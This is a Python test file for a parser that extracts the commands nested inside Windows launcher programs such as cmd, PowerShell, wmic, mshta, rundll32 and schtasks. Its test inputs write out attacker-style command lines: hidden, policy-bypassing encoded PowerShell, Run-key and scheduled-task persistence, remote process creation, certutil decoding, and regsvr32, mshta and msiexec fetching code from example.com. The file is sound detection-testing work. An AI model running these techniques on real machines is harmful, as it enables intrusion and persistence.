"""What the programs of Windows run comes out, and nothing where they run nothing."""

from __future__ import annotations

import base64

import pytest

from vedette.commands import programs
from vedette.commands.base import Call, Nested, Scope, Word
from vedette.commands.budget import Budget
from vedette.schema.command import Language

PROGRAM, CMD, POWERSHELL = Language.PROGRAM, Language.CMD, Language.POWERSHELL


def runs(line: str, scope: Scope | None = None) -> list[Nested]:
    scope = scope or Scope(Budget())
    (call,) = programs.read(line, scope).calls
    return programs.nested(call, scope)


def encoded(text: str, encoding: str = "utf-16-le") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


@pytest.mark.parametrize(
    ("line", "language", "text"),
    [
        ("cmd /c dir", CMD, "dir"),
        ('cmd.exe /s /c "dir "a b""', CMD, 'dir "a b"'),
        ("C:\\Windows\\System32\\cmd.exe /d/q/k dir&x", CMD, "dir&x"),
        ('cmd /c "C:\\a b\\c.exe"', CMD, '"C:\\a b\\c.exe"'),
        ('cmd /c "calc.exe"', CMD, "calc.exe"),
        ('cmd /c""C:\\a b\\c.exe" "d""', CMD, '"C:\\a b\\c.exe" "d"'),
        ("cmd ,;/c;dir", CMD, "dir"),
        ('powershell "a b"', POWERSHELL, "a b"),
        ("powershell -nop -w hidden -c a b", POWERSHELL, "a b"),
        ("powershell /nop /Command a", POWERSHELL, "a"),
        ("powershell \u2013com a", POWERSHELL, "a"),
        ("powershell -version 2 -ex bypass -c a", POWERSHELL, "a"),
        ('pwsh -NoLogo -WorkingDirectory C:\\ -c "a"', POWERSHELL, "a"),
        (f"powershell -e {encoded('dir')}", POWERSHELL, "dir"),
        (f"powershell -ec {encoded('dir')}", POWERSHELL, "dir"),
        (f"powershell.exe -NoP -enco {encoded('dir')}", POWERSHELL, "dir"),
        ("wmic process call create calc.exe", PROGRAM, "calc.exe"),
        ('wmic /node:192.0.2.1 process call create "cmd /c a"', PROGRAM, "cmd /c a"),
        ('wmic process call create "cmd /c \\"a b\\""', PROGRAM, 'cmd /c "a b"'),
        ('schtasks /create /tn a /tr "cmd /c b" /sc daily', PROGRAM, "cmd /c b"),
        ("at 23:00 /every:m cmd /c b", PROGRAM, "cmd /c b"),
        ('sc \\\\host create a binPath= "cmd /c b"', PROGRAM, "cmd /c b"),
        ('sc config a binpath="cmd /c b"', PROGRAM, "cmd /c b"),
        (
            'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d "cmd /c b"',
            PROGRAM,
            "cmd /c b",
        ),
        ('forfiles /p C:\\ /c "cmd /c b @file"', PROGRAM, "cmd /c b @file"),
        ("pcalua -a calc.exe -c -x", PROGRAM, "calc.exe -x"),
        ("conhost --headless cmd /c b", PROGRAM, "cmd /c b"),
        ('runas /user:a "cmd /c b"', PROGRAM, "cmd /c b"),
        ("psexec \\\\h -u a -p b -i 1 -s cmd /c x", PROGRAM, "cmd /c x"),
        ("winrs -r:h -u:a whoami /all", CMD, "whoami /all"),
        ('mshta vbscript:Close(Execute("a"))', Language.VBSCRIPT, 'Close(Execute("a"))'),
        ('mshta "javascript:a(1)"', Language.JSCRIPT, "a(1)"),
        ('mshta "about:<script language=vbscript>a</script>"', Language.VBSCRIPT, "a"),
        ('rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";a(%22b%22)', Language.JSCRIPT, None),
        ('rundll32 shell32.dll,ShellExec_RunDLL "calc.exe" -x', PROGRAM, '"calc.exe" -x'),
        ("rundll32.exe advpack.dll,RegisterOCX calc.exe", PROGRAM, "calc.exe"),
        ("rundll32 url.dll,FileProtocolHandler calc.exe", PROGRAM, "calc.exe"),
        ("bitsadmin /SetNotifyCmdLine j C:\\a.exe NULL", PROGRAM, "C:\\a.exe"),
        ('sqlcmd -S h -Q "select 1"', Language.SQL, "select 1"),
        ("wsl -d x -- ls -l", Language.SH, "ls -l"),
        ("explorer /root,C:\\a.exe", PROGRAM, "C:\\a.exe"),
        ('SyncAppvPublishingServer.exe "n;dir"', POWERSHELL, "dir"),
        ("scriptrunner -appvscript calc.exe", PROGRAM, "calc.exe"),
    ],
)
def test_what_is_run(line: str, language: Language, text: str | None) -> None:
    (layer,) = runs(line)
    assert layer.language is language
    assert text is None or layer.text == text


@pytest.mark.parametrize(
    "line",
    [
        "cmd",
        "cmd /?",
        "cmd /c",
        "powershell",
        "powershell -File C:\\a.ps1",
        "powershell -enc !!!!",
        "powershell -nop",
        "wmic process list",
        "wmic process get create",
        "schtasks /query /tn a",
        "sc query a",
        "reg add HKCU\\Software\\a /v b /d calc.exe",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v b /t REG_DWORD /d 1",
        "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        "mshta http://example.com/a.hta",
        "rundll32 shell32.dll,Control_RunDLL a.cpl",
        "rundll32 url.dll,OpenURL http://example.com",
        "regsvr32 /i:http://example.com/a.sct scrobj.dll",
        "msiexec /i http://example.com/a.msi",
        "explorer C:\\Users",
        "explorer /select,C:\\a.exe",
        "forfiles /p C:\\",
        "runas /user:a",
        "at",
        "net user",
        "",
    ],
)
def test_what_runs_nothing(line: str) -> None:
    scope = Scope(Budget())
    assert [layer for call in programs.read(line, scope).calls for layer in programs.nested(call, scope)] == []


def test_base64_of_another_encoding_is_said_to_be_that() -> None:
    (layer,) = runs(f"powershell -enc {encoded('Write-Host hello', 'utf-8')}")
    assert (layer.text, layer.methods) == ("Write-Host hello", ("base64",))


def test_variables_set_before_reach_what_is_started() -> None:
    from vedette.commands.cmd import read

    scope = Scope(Budget())
    call = read("set x=whoami&&powershell -c $env:x", scope).calls[-1]
    (layer,) = programs.nested(call, scope)
    assert layer.environment == {"X": "whoami"}


@pytest.mark.parametrize("tool", ["certutil -decode", "certutil.exe -f /decode", "renamed.tmp -decode"])
def test_decoded_files_are_followed(tool: str) -> None:
    from vedette.commands import explain

    text = f"echo {encoded('whoami /all', 'utf-8')}>a.txt&{tool} a.txt B.bat&b.bat"
    layers = explain(text, CMD).layers
    assert layers[-1].text == "whoami /all"
    assert "base64" in layers[-1].methods


def test_files_that_the_command_did_not_write_are_not_known() -> None:
    assert runs("cscript C:\\a.vbs") == []
    scope = Scope(Budget(), files={"c:\\a.vbs": b"x = 1"})
    (layer,) = runs("cscript //nologo C:\\a.vbs b", scope)
    assert (layer.language, layer.text, layer.arguments) == (Language.VBSCRIPT, "x = 1", ("b",))


def cmdlet(name: str, *words: str) -> list[Nested]:
    call = Call(Word(name, 0, 0), [Word(word, 0, 0) for word in words], POWERSHELL)
    return programs.nested(call, Scope(Budget()))


@pytest.mark.parametrize(
    ("name", "words", "text"),
    [
        ("Start-Process", ("calc.exe",), "calc.exe"),
        ("Start-Process", ("-FilePath", "cmd", "-ArgumentList", "/c", "dir", "-WindowStyle", "Hidden"), "cmd /c dir"),
        ("Start-Process", ("cmd", "/c dir", "-NoNewWindow"), "cmd /c dir"),
        ("Invoke-WmiMethod", ("-Class", "Win32_Process", "-Name", "Create", "-ArgumentList", "cmd /c a"), "cmd /c a"),
        ("New-Service", ("-Name", "a", "-BinaryPathName", "cmd /c b"), "cmd /c b"),
        ("New-ScheduledTaskAction", ("-Execute", "cmd", "-Argument", "/c b"), "cmd /c b"),
        (
            "Set-ItemProperty",
            ("-Path", "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "-Name", "a", "-Value", "b.exe -c"),
            "b.exe -c",
        ),
    ],
)
def test_cmdlets_that_start_programs(name: str, words: tuple[str, ...], text: str) -> None:
    (layer,) = cmdlet(name, *words)
    assert (layer.language, layer.text) == (PROGRAM, text)


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("Start-Process", ()),
        ("Get-Process", ("cmd",)),
        ("Invoke-WmiMethod", ("-Class", "Win32_Share", "-Name", "Create", "-ArgumentList", "a")),
        ("Set-ItemProperty", ("-Path", "HKCU:\\Software\\a", "-Name", "b", "-Value", "c.exe")),
    ],
)
def test_cmdlets_that_start_nothing(name: str, words: tuple[str, ...]) -> None:
    assert cmdlet(name, *words) == []
